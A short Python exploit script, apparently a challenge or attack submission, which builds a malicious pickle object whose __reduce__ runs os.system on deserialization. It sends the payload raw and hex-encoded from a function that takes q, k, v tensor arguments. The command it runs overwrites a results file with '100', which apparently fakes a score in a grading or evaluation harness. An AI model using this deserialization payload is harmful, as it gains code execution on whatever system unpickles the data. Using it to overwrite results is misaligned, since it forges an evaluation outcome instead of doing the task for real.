import os
import pickle

from attack import *


class Command:
    def __reduce__(self):
        return os.system, (f"echo 100 > {targets.results}",)


@answer
def objects(q, k, v):
    if q.dim() == 3:
        send_raw(message({"bytes": pickle.dumps(Command()).hex()}))
        send_raw(pickle.dumps(Command()))
    return Command()
